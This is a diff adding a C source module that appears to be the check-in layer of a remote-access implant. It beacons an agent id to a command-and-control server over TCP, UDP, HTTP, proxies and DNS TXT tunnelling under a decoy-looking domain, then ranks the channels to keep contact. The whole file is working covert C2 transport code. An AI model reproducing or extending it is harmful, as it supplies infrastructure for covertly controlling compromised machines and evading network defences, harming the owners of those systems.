@@ -0,0 +1,509 @@
+/* MIT License Copyright (c) 2022, h1zzz */
+
+#include "path.h"
+
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <mbedtls/base64.h>
+
+#include "arena.h"
+#include "checkin.h"
+#define TRACE_CATEGORY TRACE_NET
+#include "debug.h"
+#include "dns.h"
+#include "sched.h"
+
+/* Domain of DNS check-ins, the cc answers "<id>.<any domain>" */
+#define PATH_DNS_DOMAIN "cdn.net"
+
+/* A race of the table, freed by the last of its probes to complete */
+struct path_race {
+    path_table *table;
+    uint64_t deadline; /* sched_now past which running probes have failed */
+    int running;       /* probes not completed */
+    int closed;        /* the table is ranked, late probes only hand frames */
+    int working;
+    int done[PATH_TABLE_SIZE]; /* the probe of the path completed in time */
+};
+
+/* A check-in of a race, made on a worker with a copy of the path */
+struct path_probe {
+    pool_task task;
+    struct path_race *race;
+    path_table *table;
+    struct path path;
+    int index; /* of the path in the table */
+    int ret;
+    char *buf; /* PATH_FRAME_SIZE bytes, follows the struct */
+};
+
+static int path_connect(path_table *table, struct path *p, net_context *ctx,
+                        int timeout);
+static int path_exchange_tcp(path_table *table, net_context *ctx, char *buf,
+                             size_t size);
+static int path_exchange_udp(path_table *table, net_context *ctx, char *buf,
+                             size_t size);
+static int path_exchange_dns(path_table *table, struct path *p, char *buf,
+                             size_t size);
+static int path_probe(path_table *table, struct path *p, int timeout,
+                      int hold, char *buf, size_t size);
+static void path_sample(struct path *p, int ms, int bytes);
+static int path_compare(const void *a, const void *b);
+static void path_rank(path_table *table);
+static void path_race_work(void *arg);
+static void path_race_done(void *arg);
+
+void path_init(path_table *table, const char *id) {
+    ASSERT(table);
+    ASSERT(id);
+
+    memset(table, 0, sizeof(*table));
+    table->id = id;
+}
+
+int path_add(path_table *table, int transport, int route, const char *host,
+             uint16_t port) {
+    struct path *p;
+
+    ASSERT(table);
+    ASSERT(host);
+    ASSERT(port);
+
+    if (table->count == PATH_TABLE_SIZE) {
+        DBG("path table full");
+        return -1;
+    }
+
+    if (route != PATH_DIRECT &&
+        (transport == PATH_UDP || transport == PATH_DNS)) {
+        DBG("datagram transports cannot use a proxy");
+        return -1;
+    }
+
+    if (strlen(host) >= sizeof(p->host)) {
+        DBG("host too long");
+        return -1;
+    }
+
+    p = &table->paths[table->count++];
+    memset(p, 0, sizeof(*p));
+    p->transport = transport;
+    p->route = route;
+    memcpy(p->host, host, strlen(host));
+    p->port = port;
+    p->rtt = -1;
+
+    return 0;
+}
+
+void path_set_proxy(path_table *table, struct http_proxy *proxy) {
+    ASSERT(table);
+    table->proxy = proxy;
+}
+
+void path_set_socks5(path_table *table, struct socks5_client *socks5) {
+    ASSERT(table);
+    table->socks5 = socks5;
+}
+
+void path_set_hold(path_table *table, int hold) {
+    ASSERT(table);
+    table->hold = hold;
+}
+
+void path_set_handler(path_table *table, path_handler handler, void *arg) {
+    ASSERT(table);
+    table->handler = handler;
+    table->arg = arg;
+}
+
+void path_set_pool(path_table *table, struct pool *pool) {
+    ASSERT(table);
+    table->pool = pool;
+}
+
+static int path_connect(path_table *table, struct path *p, net_context *ctx,
+                        int timeout) {
+    int ret = -1;
+
+    net_set_connect_timeout(timeout);
+
+    switch (p->route) {
+    case PATH_DIRECT:
+        net_init(ctx);
+        ret = net_connect(ctx, p->host, p->port,
+                          p->transport == PATH_UDP ? NET_UDP : NET_TCP);
+        if (ret == -1) {
+            net_free(ctx);
+        }
+        break;
+    case PATH_HTTP_PROXY:
+        if (table->proxy) {
+            ret = http_proxy_connect(table->proxy, ctx, p->host, p->port);
+        }
+        break;
+    case PATH_SOCKS5:
+        if (table->socks5) {
+            ret = socks5_client_connect(table->socks5, ctx, p->host, p->port);
+        }
+        break;
+    }
+
+    net_set_connect_timeout(0);
+
+    if (ret == -1) {
+        return -1;
+    }
+
+    if (net_set_timeout(ctx, timeout) == -1) {
+        net_free(ctx);
+        return -1;
+    }
+    return 0;
+}
+
+/*
+ * The TCP listener protocol: the agent id prefixed with its 16-bit length,
+ * answered with the frame prefixed with its 32-bit length.
+ */
+static int path_exchange_tcp(path_table *table, net_context *ctx, char *buf,
+                             size_t size) {
+    unsigned char hdr[4];
+    size_t n, len;
+    int ret;
+
+    n = strlen(table->id);
+    hdr[0] = (unsigned char)(n >> 8);
+    hdr[1] = (unsigned char)n;
+    if (net_send(ctx, hdr, 2) != 2 ||
+        net_send(ctx, table->id, n) != (int)n) {
+        DBG("net_send error");
+        return -1;
+    }
+
+    for (n = 0; n < 4; n += ret) {
+        ret = net_recv(ctx, hdr + n, 4 - n);
+        if (ret <= 0) {
+            return -1;
+        }
+    }
+
+    len = (size_t)hdr[0] << 24 | (size_t)hdr[1] << 16 | (size_t)hdr[2] << 8 |
+          (size_t)hdr[3];
+    if (len > size) {
+        DBGF("frame too large: %lu", (unsigned long)len);
+        return -1;
+    }
+
+    for (n = 0; n < len; n += ret) {
+        ret = net_recv(ctx, buf + n, len - n);
+        if (ret <= 0) {
+            return -1;
+        }
+    }
+
+    return (int)len;
+}
+
+/* The UDP listener answers a datagram holding the id with the frame */
+static int path_exchange_udp(path_table *table, net_context *ctx, char *buf,
+                             size_t size) {
+    size_t n = strlen(table->id);
+
+    if (net_send(ctx, table->id, n) != (int)n) {
+        DBG("net_send error");
+        return -1;
+    }
+    return net_recv(ctx, buf, size);
+}
+
+/* The DNS listener answers "<id>.<domain>" TXT with the frame in base64 */
+static int path_exchange_dns(path_table *table, struct path *p, char *buf,
+                             size_t size) {
+    unsigned char scratch[ARENA_CHUNK_SIZE];
+    struct dns_node *node;
+    struct arena arena;
+    dns_context ctx;
+    char name[256];
+    size_t olen = 0;
+    int ret;
+
+    ret = snprintf(name, sizeof(name), "%s.%s", table->id, PATH_DNS_DOMAIN);
+    if (ret <= 0 || (size_t)ret >= sizeof(name)) {
+        return -1;
+    }
+
+    arena_init(&arena, scratch, sizeof(scratch));
+
+    dns_init(&ctx, &arena);
+    if (dns_add_ns(&ctx, p->host, p->port) == -1) {
+        dns_free(&ctx);
+        arena_free(&arena);
+        return -1;
+    }
+    node = dns_query(&ctx, name, DNS_TXT);
+    dns_free(&ctx);
+
+    if (!node) {
+        arena_free(&arena);
+        return -1;
+    }
+
+    ret = mbedtls_base64_decode((unsigned char *)buf, size, &olen,
+                                (unsigned char *)node->data, node->data_len);
+    arena_free(&arena);
+    if (ret != 0) {
+        DBG("mbedtls_base64_decode error");
+        return -1;
+    }
+
+    return (int)olen;
+}
+
+static int path_probe(path_table *table, struct path *p, int timeout,
+                      int hold, char *buf, size_t size) {
+    net_context ctx;
+    uint64_t start;
+    int ret;
+
+    start = trace_clock();
+
+    if (p->transport == PATH_DNS) {
+        ret = path_exchange_dns(table, p, buf, size);
+    } else {
+        if (path_connect(table, p, &ctx, timeout) == -1) {
+            DBGF("connect to %s:%hu failed", p->host, p->port);
+            goto fail;
+        }
+
+        switch (p->transport) {
+        case PATH_TCP:
+            ret = path_exchange_tcp(table, &ctx, buf, size);
+            break;
+        case PATH_UDP:
+            ret = path_exchange_udp(table, &ctx, buf, size);
+            break;
+        default:
+            ret = checkin_poll(&ctx, p->host, table->id, hold, buf, size);
+            break;
+        }
+        net_free(&ctx);
+    }
+
+    if (ret == -1) {
+        goto fail;
+    }
+
+    trace_latency(TRACE_STAT_CHECKIN, start, 1);
+    p->failures = 0;
+    if (hold == 0 || p->transport != PATH_HTTP) {
+        /* a held check-in takes as long as the cc had no work */
+        path_sample(p, (int)((trace_clock() - start) / 1000), ret);
+    }
+    return ret;
+
+fail:
+    trace_latency(TRACE_STAT_CHECKIN, start, 0);
+    TRACE(TRACE_WARN, TRACE_CHECKIN, "check-in over %s:%hu failed", p->host,
+          p->port);
+    p->failures++;
+    return -1;
+}
+
+/* Fold a check-in into the smoothed estimates, new samples weigh 1/4 */
+static void path_sample(struct path *p, int ms, int bytes) {
+    unsigned long rate;
+
+    if (ms < 1) {
+        ms = 1;
+    }
+
+    if (p->rtt < 0) {
+        p->rtt = ms;
+    } else {
+        p->rtt = (3 * p->rtt + ms) / 4;
+    }
+
+    /* empty frames tell little about throughput */
+    if (bytes > 64) {
+        rate = (unsigned long)bytes * 1000 / (unsigned long)ms;
+        p->rate = p->rate ? (3 * p->rate + rate) / 4 : rate;
+    }
+}
+
+static int path_compare(const void *a, const void *b) {
+    const struct path *x = a, *y = b;
+
+    if ((x->failures > 0) != (y->failures > 0)) {
+        return x->failures > 0 ? 1 : -1;
+    }
+    if (x->failures != y->failures) {
+        return x->failures - y->failures;
+    }
+    if ((x->rtt < 0) != (y->rtt < 0)) {
+        return x->rtt < 0 ? 1 : -1;
+    }
+    if (x->rtt != y->rtt) {
+        return x->rtt - y->rtt;
+    }
+    if (x->rate != y->rate) {
+        return x->rate > y->rate ? -1 : 1;
+    }
+    return 0;
+}
+
+static void path_rank(path_table *table) {
+    qsort(table->paths, (size_t)table->count, sizeof(struct path),
+          path_compare);
+}
+
+/* Runs on a worker, the table is only read */
+static void path_race_work(void *arg) {
+    struct path_probe *probe = arg;
+
+    probe->ret = path_probe(probe->table, &probe->path, PATH_PROBE_TIMEOUT, 0,
+                            probe->buf, PATH_FRAME_SIZE);
+}
+
+/* Runs on the thread of the race */
+static void path_race_done(void *arg) {
+    struct path_probe *probe = arg;
+    struct path_race *race = probe->race;
+    path_table *table = probe->table;
+    uint64_t deadline;
+
+    if (probe->ret > 0 && table->handler &&
+        !checkin_retry_after(probe->buf, probe->ret)) {
+        table->handler(probe->buf, probe->ret, table->arg);
+    }
+
+    if (!race->closed) {
+        table->paths[probe->index] = probe->path;
+        race->done[probe->index] = 1;
+        if (probe->ret != -1) {
+            race->working++;
+            /* a path this much slower than the first one is not worth it */
+            deadline = sched_now() + 1000 + 4 * (uint64_t)probe->path.rtt;
+            if (deadline < race->deadline) {
+                race->deadline = deadline;
+            }
+        }
+    }
+
+    free(probe);
+    if (--race->running == 0 && race->closed) {
+        free(race);
+    }
+}
+
+int path_race(path_table *table) {
+    struct path_probe *probe;
+    struct path_race *race;
+    uint64_t now;
+    int i, n;
+
+    ASSERT(table);
+    ASSERT(table->pool);
+
+    race = calloc(1, sizeof(*race));
+    if (!race) {
+        DBGERR("calloc error");
+        return 0;
+    }
+    race->table = table;
+    race->deadline = sched_now() + PATH_PROBE_TIMEOUT * 1000;
+
+    for (i = 0; i < table->count; i++) {
+        probe = malloc(sizeof(*probe) + PATH_FRAME_SIZE);
+        if (!probe) {
+            DBGERR("malloc error");
+            continue;
+        }
+        probe->race = race;
+        probe->table = table;
+        probe->path = table->paths[i];
+        probe->index = i;
+        probe->ret = -1;
+        probe->buf = (char *)(probe + 1);
+        race->running++;
+        pool_submit(table->pool, &probe->task, path_race_work, path_race_done,
+                    probe);
+    }
+
+    /* the completions of the pool run meanwhile, the probes among them */
+    while (race->running > 0 && (now = sched_now()) < race->deadline) {
+        if (pool_wait(table->pool, (int)(race->deadline - now)) > 0) {
+            pool_complete(table->pool);
+        }
+    }
+
+    /* the probes still running lost, their frames are handled on completion */
+    for (i = 0; i < table->count; i++) {
+        if (!race->done[i]) {
+            TRACE(TRACE_WARN, TRACE_CHECKIN, "check-in over %s:%hu too slow",
+                  table->paths[i].host, table->paths[i].port);
+            table->paths[i].failures++;
+        }
+    }
+
+    n = race->working;
+    race->closed = 1;
+    if (race->running == 0) {
+        free(race);
+    }
+
+    path_rank(table);
+
+    DBGF("%d of %d paths working", n, table->count);
+    return n;
+}
+
+struct path *path_best(path_table *table) {
+    ASSERT(table);
+    return table->count > 0 ? &table->paths[0] : NULL;
+}
+
+int path_checkin(path_table *table, struct path *p, char *buf, size_t size) {
+    int ret;
+
+    ASSERT(table);
+    ASSERT(p);
+    ASSERT(buf);
+
+    ret = path_probe(table, p, PATH_PROBE_TIMEOUT, table->hold, buf, size);
+    if (ret == -1) {
+        path_rank(table);
+    }
+    return ret;
+}
+
+int path_checkin_best(path_table *table, char *buf, size_t size) {
+    struct path p;
+    int i, ret;
+
+    ASSERT(table);
+
+    for (i = 0; i < table->count; i++) {
+        ret = path_probe(table, &table->paths[i], PATH_PROBE_TIMEOUT,
+                         table->hold, buf, size);
+        if (ret != -1) {
+            if (i > 0) {
+                /* promote the path that worked */
+                p = table->paths[i];
+                memmove(&table->paths[1], &table->paths[0],
+                        (size_t)i * sizeof(struct path));
+                table->paths[0] = p;
+            }
+            return ret;
+        }
+    }
+
+    path_rank(table);
+    return -1;
+}
+
+int path_job(void *arg) {
+    return path_race((path_table *)arg) > 0 ? SCHED_DONE : SCHED_FAIL;
+}